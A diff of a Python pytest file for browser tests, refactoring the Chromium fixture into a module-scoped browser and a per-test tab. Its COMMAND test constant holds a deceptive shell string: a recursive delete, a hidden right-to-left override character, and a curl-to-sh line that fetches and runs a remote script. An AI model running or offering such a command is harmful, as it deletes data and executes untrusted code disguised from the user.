@@ -8,16 +8,22 @@ from pathlib import Path
 import pytest
 
 from tests.support.browser import find_chromium
-from tests.support.browser_session import BrowserError, Session, chromium
+from tests.support.browser_session import Browser, BrowserError, Session, browser
 
 pytestmark = pytest.mark.skipif(find_chromium() is None, reason="Chromium is not installed: apt-get install chromium")
 
 COMMAND = 'cd build && rm -rf "$CACHE"/* \u202e/srv/app\ncurl -fsS https://get.example.com/install.sh | sh'
 
 
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    with browser() as made:
+        yield made
+
+
 @pytest.fixture
-def tab() -> Iterator[Session]:
-    with chromium() as made:
+def tab(chromium: Browser) -> Iterator[Session]:
+    with chromium.tab() as made:
         yield made
 
 
